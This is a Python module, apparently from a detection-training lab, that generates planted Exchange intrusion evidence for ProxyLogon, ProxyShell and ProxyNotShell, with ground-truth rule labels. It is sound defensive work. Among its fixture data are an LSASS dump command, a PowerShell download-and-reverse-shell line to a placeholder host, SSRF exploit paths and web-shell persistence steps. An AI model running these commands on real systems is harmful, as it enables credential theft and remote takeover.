"""Planted evidence for triage packages: the ProxyLogon, ProxyShell and ProxyNotShell traces and look-alikes.

Each scenario is a table of steps (:mod:`exwatch.lab.triage_steps`): a log line, a Windows event or
a file at a time relative to the scenario's start, with the ground-truth items it carries. One
planter reads the tables into a :class:`~exwatch.lab.triage_plan.Plan`; :mod:`exwatch.lab.triage`
writes the plan out and fills in each item's file and line (or record).

The shapes follow the published real traces quoted in ``shared/reference/log_formats.md`` (2.6, 3, 6)
and ``detections.md`` (PL-*, PS-*, PN-*, WS-*, PE-*). Everything is defanged: the web shells are
deliberately broken so that no web server could run them (see :mod:`exwatch.lab.triage_samples`),
tokens are fake, and domains are ``contoso.com`` / the ``evil.com``/``test.com`` placeholders of the
published patterns.

The order of the rows is part of the output: rows draw from the scenario's random stream in order,
so moving a row changes every package written after it (tests/lab compare packages by seed).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from exwatch.lab import triage_traffic as traffic
from exwatch.lab.triage_formats import (
    ASPNET_CLIENT,
    ECP_AUTH,
    OAB_FE,
    OWA_AUTH,
    WIN_INSTALL,
    EventSpec,
    ecp_cmd,
    ps_quote,
)
from exwatch.lab.triage_plan import (
    CMD,
    EVT_APPLICATION,
    W3WP,
    FilePlant,
    Plan,
    item,
    w3wp_cmdline,
    win_path,
)
from exwatch.lab.triage_samples import (
    APPHOST_CONFIG,
    SHELL_URL,
    application_host_config,
    cabinet,
    chopper_page,
    compiled_page_standin,
    der_shell,
    minidump,
    oab_config_dump,
    pst_shell,
    small_zip,
    uploader_page,
)
from exwatch.lab.triage_steps import (
    Cmdlet,
    Defender,
    Draw,
    EcpLine,
    Event,
    File,
    FileCreated,
    IisLine,
    Mark,
    OabgenLine,
    Process,
    ProxyLine,
    RandInt,
    ScenarioRun,
    ScriptBlock,
    Step,
    Truth,
    after,
    plant,
    random_text,
    server_names,
)

SCENARIOS = ("proxylogon", "proxyshell", "proxynotshell", "lookalikes", "clean", "all")

CVE_PROXYLOGON = "CVE-2021-26855"  # the SSRF
CVE_ECP_WRITE = "CVE-2021-27065"  # the arbitrary file write through ECP
CVE_OAB_WRITE = "CVE-2021-26858"
CVE_UM = "CVE-2021-26857"
CVE_PROXYSHELL = "CVE-2021-34473"  # the autodiscover path confusion
CVE_RPS = "CVE-2021-34523"  # the X-Rps-CAT elevation to remote PowerShell
CVE_EXPORT = "CVE-2021-31207"  # the mailbox-export file write
CVE_PNS_SSRF = "CVE-2022-41040"
CVE_OWASSRF = "CVE-2022-41080"
CVE_PNS_RCE = "CVE-2022-41082"

LOWER = "abcdefghijklmnopqrstuvwxyz"
UPPER = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
DIGITS = "0123456789"
ANON_INFO = traffic.generic_info(anonymous=True)  # GenericInfo of an unauthenticated request
CAFE_QUERY = "&CorrelationID=<empty>;&cafeReqId={guid};&encoding=;"  # the front end's own query tokens
CHROME65 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36"
CHROME89 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36"
# The Chrome 105 User-Agent of the OWASSRF proof of concept (detections.md PN-2).
CHROME105 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36"
NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"


def _head(command: str) -> str:
    """The first 40 characters of a command line: what a process item matches (4688 has no more)."""
    head = command[:40]
    if "{" in head:  # the filled value would shift the head: match on text that does not move
        raise ValueError(f"template slot in the matched head of {command!r}")
    return head


def _admin_sid(plan: Plan) -> str:
    """The SID of the domain's built-in Administrator (RID 500)."""
    return traffic.users(plan.seed, plan.server.domain)[0].sid.rsplit("-", 1)[0] + "-500"


# --- ProxyLogon --------------------------------------------------------------------------------------
#
# The full chain of log_formats.md 2.6 item 2, the ECP log of section 3, and what followed. Named
# times: t0 the first run; t2 the full run; ta the first access to the web shell.

PL_IP = "157.230.221.198"  # the client of the chain (a Volexity exploitation address)
DDI = "/ecp/DDI/DDIService.svc"
_SSRF = "ServerInfo~a]@{fqdn}:444"  # the back end the forged cookie names

# The steps of the full run: (offset s, back-end path, status, User-Agent, rule).
PL_REQUESTS = (
    (
        0.0,
        "/autodiscover/autodiscover.xml?#",
        "200",
        "ExchangeServicesClient/0.0.0.0",
        "proxylogon.ssrf_attempt",
    ),
    (1.023, "/mapi/emsmdb/?#", "200", "python-requests/2.25.1", "proxylogon.ssrf_progressed"),
    (2.213, "/ecp/proxyLogon.ecp?#", "241", "python-requests/2.25.1", "proxylogon.ssrf_progressed"),
    (
        3.771,
        DDI + "/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
        "200",
        "python-requests/2.25.1",
        "proxylogon.ssrf_progressed",
    ),
    (
        7.225,
        DDI + "/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
        "200",
        "python-requests/2.25.1",
        "proxylogon.ssrf_progressed",
    ),
    (
        9.542,
        DDI + "/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#",
        "200",
        "python-requests/2.25.1",
        "proxylogon.ecp_reset_vdir",
    ),
    (
        12.471,
        DDI + "/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
        "200",
        "python-requests/2.25.1",
        "proxylogon.ssrf_progressed",
    ),
)
# The first run, ten minutes earlier, stopped after four steps: (offset s, index in PL_REQUESTS).
PL_FIRST_RUN = ((0.0, 0), (3.4, 1), (6.1, 2), (9.0, 3))


def _ssrf_request(
    anchor: str, offset: float, path: str, status: str, agent: str, rule: str
) -> tuple[Step, ...]:
    """One forged request: the HttpProxy line, the front end's IIS line, the back end's IIS line."""
    at = after(anchor, seconds=offset)
    anchor_mailbox = _SSRF + path
    reset = "Reset" in path
    proxy_truth = [Truth(rule, CVE_ECP_WRITE if reset else CVE_PROXYLOGON, match=anchor_mailbox)]
    if reset:
        proxy_truth.append(Truth("proxylogon.ssrf_progressed", CVE_PROXYLOGON, match=anchor_mailbox))
    proxy_truth.append(Truth("proxylogon.iis_static_post", CVE_PROXYLOGON, match=",/ecp/y.js,"))
    be_path, _, be_query = path.rstrip("#").partition("?")
    return (
        ProxyLine(
            at,
            "Ecp",
            values={
                "UrlStem": "/ecp/y.js",
                "Method": "POST",
                "HttpStatus": status,
                "BackEndStatus": status,
                "AuthenticationType": "",
                "IsAuthenticated": "false",
                "UserAgent": agent,
                "ClientIpAddress": PL_IP,
                "RoutingType": "CrossRegion",
                "RoutingHint": "X-BEResource-Cookie",
                "AnchorMailbox": anchor_mailbox,
                "GenericInfo": ANON_INFO,
            },
            truth=tuple(proxy_truth),
        ),
        # Front end IIS: the request as sent (log_formats.md 6); a POST to a static script under
        # /ecp/ (detections.md PL-3), whatever the status.
        IisLine(
            at,
            method="POST",
            stem="/ecp/y.js",
            query="&CorrelationID=<empty>;&cafeReqId={guid};",
            user="",
            client=PL_IP,
            agent=agent,
            status=status,
            time_taken=RandInt(80, 900),
            truth=(Truth("proxylogon.iis_static_post", CVE_PROXYLOGON, match="POST /ecp/y.js"),),
        ),
        # Back end IIS: the proxied call under the machine account.
        IisLine(
            at,
            method="POST",
            stem=be_path,
            query=(be_query + "&" if be_query else "") + "CorrelationID=<empty>;&cafeReqId={guid};",
            user="{netbios}\\{host}$",
            client="{address}",
            agent=agent,
            status=status,
            time_taken=RandInt(50, 700),
            truth=(
                Truth("proxylogon.iis_backend_reset", CVE_ECP_WRITE, match="schema=ResetOABVirtualDirectory"),
            )
            if reset
            else (),
            back_end=True,
            lag=timedelta(milliseconds=40),
        ),
    )


_OAB_IDENTITY = ps_quote("{oab_guid}")  # a GUID holds no quote to double
# The ECP Server log of the full run (log_formats.md 3), and the management events of its cmdlets.
PL_ECP: tuple[Step, ...] = (
    EcpLine(
        after("t2", seconds=3.9),
        cmd="Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null",
        url=DDI + "/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
        sid="{admin_sid}",
    ),
    EcpLine(
        after("t2", seconds=4.2),
        cmd="Pipeline.1|Get-MailboxRegionalConfiguration",
        url=DDI + "/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
        sid="{admin_sid}",
    ),
    EcpLine(
        after("t2", seconds=7.4),
        cmd=ecp_cmd(
            "Set-OabVirtualDirectory", [("ExternalUrl", ps_quote(SHELL_URL)), ("Identity", _OAB_IDENTITY)]
        ),
        url=DDI + "/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
        sid="{admin_sid}",
        truth=(
            Truth(
                "proxylogon.ecp_set_vdir_script",
                CVE_ECP_WRITE,
                match="Set-OabVirtualDirectory.ExternalUrl=''http://f/<script",
            ),
        ),
    ),
    EcpLine(
        after("t2", seconds=9.7),
        cmd="Get-OABVirtualDirectory",
        url=DDI + "/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
        sid="{admin_sid}",
    ),
    EcpLine(
        after("t2", seconds=9.8),
        cmd="Get-ExchangeServer",
        url=DDI + "/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
        sid="{admin_sid}",
    ),
    EcpLine(
        after("t2", seconds=12.6),
        cmd=ecp_cmd("Set-OabVirtualDirectory", [("ExternalUrl", "$null"), ("Identity", _OAB_IDENTITY)]),
        url=DDI + "/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
        sid="{admin_sid}",
    ),
    Cmdlet(
        after("t2", seconds=7.4),
        "Set-OabVirtualDirectory",
        params='-Identity "{oab_guid}" -ExternalUrl "' + SHELL_URL + '"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(Truth("proxylogon.oabvdir_cmdlet", CVE_ECP_WRITE, match="function Page_Load()"),),
    ),
    Cmdlet(
        after("t2", seconds=9.7),
        "Get-OabVirtualDirectory",
        params='-Identity "{oab_guid}"',
        user="Administrator",
        sid="{admin_sid}",
    ),
    Cmdlet(
        after("t2", seconds=12.6),
        "Set-OabVirtualDirectory",
        params='-Identity "{oab_guid}" -ExternalUrl $null',
        user="Administrator",
        sid="{admin_sid}",
    ),
)

_OAB_SHELL = f"{OWA_AUTH}/RedirSuiteServerProxy.aspx"
_OAB_TEMP_WRITE = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx"
_UM_WORKER = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"


def _um_invalidcast(t: datetime) -> EventSpec:
    """The Unified Messaging error of CVE-2021-26857 (Application log)."""
    return EventSpec(
        provider="MSExchange Unified Messaging",
        # Event id as given in our task brief; not checked against a published record.
        # Detections key on provider, level and message (detections.md PL-4), not the id.
        event_id=4007,
        qualifiers=49152,
        level=2,
        task=1,
        channel="Application",
        time=t,
        data=(
            "UMWorkerProcess.exe",
            "System.InvalidCastException: Unable to cast object of type "
            "'System.Collections.Generic.SortedSet`1[System.String]' to type 'Microsoft.Exchange.UM.UMCommon.UMReportRawCounters'."
            "\r\n   at Microsoft.Exchange.UM.UMCore.UMServiceBase.DeserializeUMMessage(Byte[] data)",
        ),
    )


# What the full run left behind: the shell the OAB reset wrote, the OAB generator's write, UM.
PL_AFTERMATH: tuple[Step, ...] = (
    # The reset writes the OAB configuration with the script to a web folder: the file (WS-2b) and Sysmon 11.
    File(
        after("t2", seconds=9.9),
        _OAB_SHELL,
        lambda run, t: oab_config_dump(run.plan.server, run.names["oab_guid"]),
        truth=(
            Truth(
                "proxylogon.oab_config_dump",
                CVE_ECP_WRITE,
                match="ExternalUrl                     : http://f/<script",
            ),
            # The injected script is itself the HAFNIUM China Chopper shape (detections.md WS-2a).
            Truth("webshell.chopper", CVE_ECP_WRITE, match="function Page_Load(){eval(Request"),
            Truth("webshell.known_path", CVE_ECP_WRITE),
        ),
    ),
    FileCreated(
        after("t2", seconds=9.9),
        W3WP,
        _OAB_SHELL,
        truth=(Truth("webshell.file_drop_event", CVE_ECP_WRITE, match="RedirSuiteServerProxy.aspx"),),
    ),
    # CVE-2021-26858: the OAB generator writes to a web folder (PL-5).
    OabgenLine(
        after("t2", minutes=3, seconds=12),
        f"Download failed and temporary file '{_OAB_TEMP_WRITE}' needs to be removed",
        level="Error",
        truth=(Truth("proxylogon.oab_file_write", CVE_OAB_WRITE, match=_OAB_TEMP_WRITE),),
    ),
    # CVE-2021-26857: the Unified Messaging error and a child of UMWorkerProcess (PL-4).
    Mark("um", after("t2", minutes=5, seconds=3)),
    Event(
        after("um"),
        EVT_APPLICATION,
        _um_invalidcast,
        truth=(Truth("proxylogon.um_invalidcast", CVE_UM, match="System.InvalidCastException"),),
    ),
    Process(
        after("um", seconds=2),
        image=CMD,
        command='cmd.exe /c "whoami /all"',
        parent_image=_UM_WORKER,
        parent_command=f'"{_UM_WORKER}" -pipe 7248 -log 0',
        truth=(
            Truth("proxylogon.um_child_process", CVE_UM, match="UMWorkerProcess.exe"),
            Truth("postexploit.worker_child_process", match="UMWorkerProcess.exe"),
        ),
    ),
)

_SHELL_STEM = "/owa/auth/RedirSuiteServerProxy.aspx"


def _shell_access(k: int, client: str) -> tuple[Step, ...]:
    """The ``k``-th request to the shell (log_formats.md 2.6 items 5, 6), seven minutes apart."""
    method = "GET" if k == 0 else "POST"
    truth = (Truth("webshell.access", match=_SHELL_STEM),)
    return (
        Mark("access", after("ta", minutes=7 * k), jitter=40),
        IisLine(
            after("access"),
            method=method,
            stem=_SHELL_STEM,
            query=CAFE_QUERY,
            user="",
            client=client,
            agent=CHROME65,
            status="200",
            time_taken=RandInt(100, 300),
            truth=truth,
        ),
        ProxyLine(
            after("access"),
            "Owa",
            values={
                "UrlStem": _SHELL_STEM,
                "Method": method,
                "HttpStatus": "200",
                "BackEndStatus": "200",
                "AuthenticationType": "",
                "IsAuthenticated": "false",
                "UserAgent": CHROME65,
                "ClientIpAddress": client,
                "RoutingType": "Unknown",
                "ProxyAction": "",
                "GenericInfo": ANON_INFO,
            },
            truth=truth,
        ),
    )


_AUTH_DIR = WIN_INSTALL + "FrontEnd\\HttpProxy\\owa\\auth"
_OWA_POOL = w3wp_cmdline("MSExchangeOWAAppPool")


def _shell_command(minutes: float, image: str, command: str, *rules: str) -> Process:
    """A command the shell ran as a child of the OWA worker (PE-3, PE-4, PE-5, PE-1, PE-2)."""
    truth = tuple(Truth(rule, match=_head(command)) for rule in rules)
    return Process(
        after("ta", minutes=minutes),
        image=image,
        command=command,
        parent_image=W3WP,
        parent_command=_OWA_POOL,
        truth=truth,
    )


_CHILD = "postexploit.worker_child_process"
PL_SHELL_COMMANDS: tuple[Step, ...] = (
    _shell_command(
        0.5,
        CMD,
        f'cmd.exe /c cd /d "{_AUTH_DIR}"&whoami&echo [S]&cd&echo [E]',
        "postexploit.chopper_commands",
        _CHILD,
    ),
    _shell_command(
        1.5,
        CMD,
        f'cmd.exe /c cd /d "{_AUTH_DIR}"&ipconfig /all&echo [S]&cd&echo [E]',
        "postexploit.chopper_commands",
        _CHILD,
    ),
    _shell_command(
        8.0,
        CMD,
        "cmd.exe /c C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp",
        "postexploit.lsass_procdump_cmd",
        _CHILD,
    ),
    _shell_command(
        15.0,
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\root\\lsass.dmp full",
        "postexploit.lsass_procdump_cmd",
        _CHILD,
    ),
    _shell_command(
        28.0,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -c \"IEX (New-Object System.Net.Webclient).DownloadString('http://203.0.113.9/powercat.ps1'); "
        'powercat -c 203.0.113.9 -p 443 -e cmd"',
        "postexploit.hafnium_tooling",
        _CHILD,
    ),
    _shell_command(
        22.0,
        CMD,
        "cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&attrib +h +s +r system_web\\{chopper_name}&echo [S]&cd&echo [E]",
        "postexploit.cleanup_hiding",
        "postexploit.chopper_commands",
        _CHILD,
    ),
)

_UPLOADER = OWA_AUTH + "/Current/{uploader_name}"
_CHOPPER = ASPNET_CLIENT + "/system_web/{chopper_name}"
_ASPNET_TEMP = "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root"
_AGENT_DLL = "C:\\ProgramData\\Microsoft\\Crypto\\Keys\\TransportHelper.dll"
_HIVE_STANDIN = b"exwatch lab stand-in for a saved registry hive (no real data)\r\n"
_ZIP_LSASS = "C:\\ProgramData\\7z.exe a -tzip C:\\ProgramData\\it.zip C:\\windows\\temp\\lsass.dmp"


def _recon_cab(run: ScenarioRun, t: datetime) -> bytes:
    """Recon output packed with makecab (detections.md PE-6: ip.txt, arp.txt, system, security)."""
    s = run.plan.server
    return cabinet(
        [
            (
                "ip.txt",
                b"Windows IP Configuration\r\n\r\n   Host Name . . . . . . . . . . . . : "
                + s.host.encode()
                + b"\r\n",
            ),
            (
                "arp.txt",
                b"\r\nInterface: "
                + s.address.encode()
                + b" --- 0x4\r\n  Internet Address      Physical Address      Type\r\n",
            ),
            ("system", _HIVE_STANDIN),
            ("security", _HIVE_STANDIN),
        ],
        t,
    )


# The second shell and the uploader dropped through the first, and what the intruders left behind.
PL_FOOTHOLD: tuple[Step, ...] = (
    # A small uploader page in the OWA theme folder (detections.md WS-2d, SIMPLESEESHARP shape), inert.
    Draw("uploader_name", random_text(LOWER, 6, suffix=".aspx")),
    FileCreated(
        after("ta", minutes=12, seconds=30),
        W3WP,
        _UPLOADER,
        truth=(Truth("webshell.file_drop_event", match="{uploader_name}"),),
    ),
    File(
        after("ta", minutes=12, seconds=30),
        _UPLOADER,
        uploader_page(),
        truth=(Truth("webshell.upload_shell", match="HttpPostedFile"), Truth("webshell.known_path")),
    ),
    FileCreated(
        after("ta", minutes=18),
        W3WP,
        _CHOPPER,
        truth=(Truth("webshell.file_drop_event", match="{chopper_name}"),),
    ),
    File(
        after("ta", minutes=18),
        _CHOPPER,
        chopper_page(),
        truth=(Truth("webshell.chopper", match="<%eval(Request.Item["), Truth("webshell.known_path")),
    ),
    # ASP.NET compiled the Chopper page on its first request; the assembly stays after the page is gone.
    Draw("app_web", random_text(LOWER + DIGITS, 8, prefix="App_Web_")),
    Draw("aspnet_dirs", lambda rnd: f"{rnd.getrandbits(32):08x}/{rnd.getrandbits(32):08x}"),
    File(
        after("ta", minutes=18, seconds=40),
        _ASPNET_TEMP + "/{aspnet_dirs}/{app_web}.dll",
        lambda run, t: compiled_page_standin(
            run.rnd, run.names["app_web"], "~/aspnet_client/system_web/" + run.names["chopper_name"]
        ),
        truth=(Truth("webshell.compiled_dll", match="JScriptEvaluate"),),
    ),
    File(
        after("ta", minutes=8, seconds=20),
        "Windows/Temp/lsass.dmp",
        lambda run, t: minidump(run.rnd),
        truth=(Truth("postexploit.lsass_dump"),),
    ),
    File(
        after("ta", minutes=15, seconds=30),
        "root/lsass.dmp",
        lambda run, t: minidump(run.rnd),
        truth=(Truth("postexploit.lsass_dump"),),
    ),
    # Defender sees the web shell spawning cmd (detections.md section 8 names IISExchgSpawnCMD).
    Defender(
        after("ta", minutes=0.5, seconds=3),
        threat="Behavior:Win32/IISExchgSpawnCMD.A",
        path="behavior:_process: " + W3WP,
        process=W3WP,
        category="Suspicious Behavior",
        truth=(Truth("postexploit.defender_detection", match="IISExchgSpawnCMD"),),
    ),
    # Mailbox access through the Exchange snap-in (detections.md PE-6), from a shell command.
    ScriptBlock(
        after("ta", minutes=33),
        "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; "
        "Get-Mailbox -ResultSize Unlimited | Select-Object DisplayName,PrimarySmtpAddress | "
        "Export-Csv C:\\ProgramData\\mb.csv -NoTypeInformation",
        truth=(Truth("postexploit.exchange_snapin", match="Add-PSSnapin Microsoft.Exchange.Management"),),
        level=3,
    ),
    # Persistence through a transport agent (detections.md PE-6).
    Cmdlet(
        after("ta", minutes=41),
        "Install-TransportAgent",
        params=f'-Name "Transport Helper" -TransportAgentFactory "TransportHelper.AgentFactory" -AssemblyPath "{_AGENT_DLL}"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(Truth("postexploit.transport_agent", match="Install-TransportAgent"),),
    ),
    Cmdlet(
        after("ta", minutes=41, seconds=20),
        "Enable-TransportAgent",
        params='-Identity "Transport Helper"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(Truth("postexploit.transport_agent", match="Enable-TransportAgent"),),
    ),
    File(
        after("ta", minutes=24),
        "Windows/Temp/sys.cab",
        _recon_cab,
        truth=(Truth("postexploit.recon_cab", match="arp.txt"),),
    ),
    Process(
        after("ta", minutes=26),
        image="C:\\ProgramData\\7z.exe",
        command=_ZIP_LSASS,
        parent_image=CMD,
        parent_command="cmd.exe /c " + _ZIP_LSASS,
    ),
    File(
        after("ta", minutes=26),
        "ProgramData/it.zip",
        lambda run, t: small_zip({"lsass.dmp": minidump(run.rnd)[:4096]}, t),
        truth=(Truth("postexploit.programdata_archive"),),
    ),
)

PROXYLOGON: tuple[Step, ...] = (
    Draw("canary", random_text(LOWER + UPPER + DIGITS, 43, suffix=".")),
    Draw("oab_guid", traffic.guid),
    # An earlier attempt from another client, matched only by the BackEndCookie condition (PL-1 item 4).
    ProxyLine(
        after("t0", minutes=-41, seconds=-7),
        "Ecp",
        values={
            "UrlStem": "/ecp/x.js",
            "Method": "POST",
            "HttpStatus": "500",
            "BackEndStatus": "500",
            "AuthenticationType": "",
            "IsAuthenticated": "false",
            "UserAgent": "python-requests/2.24.0",
            "ClientIpAddress": "192.0.2.77",
            "RoutingType": "CrossRegion",
            "RoutingHint": "X-BEResource-Cookie",
            "BackEndCookie": "Server~a]@{fqdn}:444/ecp/proxyLogon.ecp?#~1941962753",
            "GenericInfo": ANON_INFO,
        },
        truth=(Truth("proxylogon.ssrf_backendcookie", CVE_PROXYLOGON, match="Server~a]@"),),
    ),
    # The first run (four steps) and the full run ten minutes later (log_formats.md 2.6 item 2).
    *(step for offset, i in PL_FIRST_RUN for step in _ssrf_request("t0", offset, *PL_REQUESTS[i][1:])),
    Mark("t2", after("t0", minutes=9, seconds=28, milliseconds=817)),
    *(step for request in PL_REQUESTS for step in _ssrf_request("t2", *request)),
    *PL_ECP,
    *PL_AFTERMATH,
    # Access to the shell (log_formats.md 2.6 items 5, 6), from the HelseCERT incident's clients.
    Mark("ta", after("t2", minutes=31, seconds=5)),
    *(
        step
        for k, client in enumerate(("139.162.202.236", "139.162.202.236", "67.205.176.9", "139.162.202.236"))
        for step in _shell_access(k, client)
    ),
    Draw("chopper_name", random_text(LOWER + UPPER + DIGITS, 8, suffix=".aspx")),
    *PL_SHELL_COMMANDS,
    *PL_FOOTHOLD,
)


def proxylogon(plan: Plan, t0: datetime) -> None:
    """The full ProxyLogon chain of log_formats.md 2.6 item 2, the ECP log of section 3, and what followed."""
    names = {**server_names(plan.server), "admin_sid": _admin_sid(plan)}
    run = ScenarioRun(plan, "attack", "proxylogon", plan.rnd("proxylogon"), {"t0": t0}, names)
    plant(run, PROXYLOGON)


# --- ProxyShell --------------------------------------------------------------------------------------

PS_IP = "198.51.100.23"
PS_UA = "python-requests/2.26.0"
_EMAIL_TAIL = "&Email=autodiscover/autodiscover.json%3F@evil.com"
_RPS_CAT = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhFWFdBVENILUlORVJULUZBS0UtVE9LRU5VLVMtMS01LTIxLTUwMEUAAAAA"
# The /powershell requests also match the ProxyNotShell shape (autodiscover.json, then "owershell"
# within 300 characters, status 200: detections.md PN-1); CVE-2022-41040 is the same SSRF class.
_PS_RULES = ("proxyshell.rps_cat", "proxyshell.autodiscover_success", "proxynotshell.autodiscover_powershell")
_PS_CVES = {"proxyshell.rps_cat": CVE_RPS, "proxynotshell.autodiscover_powershell": CVE_PNS_SSRF}
# The path confusion (PS-1) and X-Rps-CAT to /powershell (PS-2): (offset s, method, query, status, rules).
PS_REQUESTS = (
    (0, "GET", f"@evil.com/mapi/nspi/?{_EMAIL_TAIL}", "401", ("proxyshell.autodiscover_attempt",)),
    (6, "GET", f"@evil.com/mapi/nspi/?{_EMAIL_TAIL}", "200", ("proxyshell.autodiscover_success",)),
    (14, "POST", f"@evil.com/powershell/?X-Rps-CAT={_RPS_CAT}{_EMAIL_TAIL}", "200", _PS_RULES),
    (16, "POST", f"@evil.com/powershell/?X-Rps-CAT={_RPS_CAT}{_EMAIL_TAIL}", "200", _PS_RULES),
)


def _autodiscover_request(
    offset: int, method: str, query: str, status: str, rules: tuple[str, ...]
) -> tuple[Step, ...]:
    """One ProxyShell request: the front end's IIS line and the HttpProxy line."""
    stem = "/autodiscover/autodiscover.json"

    def truth(match: str) -> tuple[Truth, ...]:
        return tuple(Truth(r, _PS_CVES.get(r, CVE_PROXYSHELL), match=match) for r in rules)

    return (
        IisLine(
            after("t0", seconds=offset),
            method=method,
            stem=stem,
            query=query,
            user="",
            client=PS_IP,
            agent=PS_UA,
            status=status,
            time_taken=RandInt(20, 400),
            truth=truth(f"{stem} {query[:20]}"),
        ),
        ProxyLine(
            after("t0", seconds=offset),
            "Autodiscover",
            values={
                "UrlStem": stem,
                "UrlQuery": "?" + query,
                "Method": method,
                "HttpStatus": status,
                "BackEndStatus": status,
                "AuthenticationType": "",
                "IsAuthenticated": "false",
                "UserAgent": PS_UA,
                "ClientIpAddress": PS_IP,
                "AnchorMailbox": "",
                "RoutingHint": "",
                "GenericInfo": ANON_INFO,
            },
            truth=truth("?" + query[:20]),
        ),
    )


_PS_SHELL = ASPNET_CLIENT + "/{shell_name}"
_PS_CERT = ASPNET_CLIENT + "/{cert_name}"
_MRS = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe"
# A virtual directory on a ProgramData device-name folder (detections.md PS-3, Huntress).
_COM_VDIR = '<virtualDirectory path="/COM" physicalPath="C:\\ProgramData\\COM" />'

PROXYSHELL: tuple[Step, ...] = (
    *(step for request in PS_REQUESTS for step in _autodiscover_request(*request)),
    # The mailbox export (PS-3): a role for the export, the export to a web folder, its cleanup.
    Draw("shell_name", random_text(UPPER, 14, suffix=".aspx")),
    Cmdlet(
        after("t0", seconds=40),
        "New-ManagementRoleAssignment",
        params='-Name "exwatch-ra-1" -Role "Mailbox Import Export" -User "Administrator"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(
            Truth("proxyshell.export_role_assignment", CVE_EXPORT, match='-Role "Mailbox Import Export"'),
        ),
    ),
    Mark("te", after("t0", seconds=75)),
    Cmdlet(
        after("te"),
        "New-MailboxExportRequest",
        params='-Name "exwatch-ex-1" -Mailbox "administrator@{domain}" -IncludeFolders ("#Drafts#") '
        '-ContentFilter "(Subject -eq \'exwatch-inert\')" -ExcludeDumpster "True" '
        '-FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{shell_name}"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(Truth("proxyshell.mailbox_export", CVE_EXPORT, match="{shell_name}"),),
    ),
    FileCreated(
        after("te", seconds=9),
        _MRS,
        _PS_SHELL,
        truth=(Truth("webshell.file_drop_event", CVE_EXPORT, match="{shell_name}"),),
    ),
    File(
        after("te", seconds=9),
        _PS_SHELL,
        lambda run, t: pst_shell(run.rnd),
        truth=(
            Truth("proxyshell.pst_shell", CVE_EXPORT, match="!BDN"),
            Truth("webshell.chopper", CVE_EXPORT, match="<%eval(Request.Item["),
            Truth("webshell.known_path", CVE_EXPORT),
        ),
    ),
    Defender(
        after("te", seconds=10),
        threat="Exploit:Win32/CVE-2021-31207.B",
        path="file:_" + win_path(_PS_SHELL),
        process=_MRS,
        category="Exploit",
        truth=(Truth("postexploit.defender_detection", CVE_EXPORT, match="CVE-2021-31207"),),
    ),
    Mark("tc", after("te", seconds=60)),
    Cmdlet(
        after("tc"),
        "Remove-MailboxExportRequest",
        params='-Identity "administrator@{domain}\\exwatch-ex-1" -Confirm "False"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(Truth("proxyshell.export_cleanup", CVE_EXPORT, match="Remove-MailboxExportRequest"),),
    ),
    *(
        IisLine(
            after("tc", minutes=2 + 3 * k),
            method="POST",
            stem="/aspnet_client/{shell_name}",
            query="",
            user="",
            client=PS_IP,
            agent=PS_UA,
            status="200",
            time_taken=RandInt(30, 600),
            truth=(Truth("webshell.access", match="/aspnet_client/{shell_name}"),),
        )
        for k in range(3)
    ),
    # The certificate-request variant (detections.md PS-3, WS-2c): a DER request file saved as a page.
    Draw("cert_name", random_text(LOWER + DIGITS, 10, suffix=".aspx")),
    Mark("tq", after("tc", minutes=14)),
    Cmdlet(
        after("tq"),
        "New-ExchangeCertificate",
        params='-GenerateRequest "True" -BinaryEncoded "True" -SubjectName "CN=exwatch-inert" '
        '-RequestFile "\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\{cert_name}"',
        user="Administrator",
        sid="{admin_sid}",
        truth=(Truth("proxyshell.cert_request_shell", CVE_EXPORT, match="{cert_name}"),),
    ),
    FileCreated(
        after("tq", seconds=2),
        W3WP,
        _PS_CERT,
        truth=(Truth("webshell.file_drop_event", CVE_EXPORT, match="{cert_name}"),),
    ),
    File(
        after("tq", seconds=2),
        _PS_CERT,
        lambda run, t: der_shell(run.rnd),
        truth=(
            Truth("proxyshell.pst_shell", CVE_EXPORT, match="Page Language="),
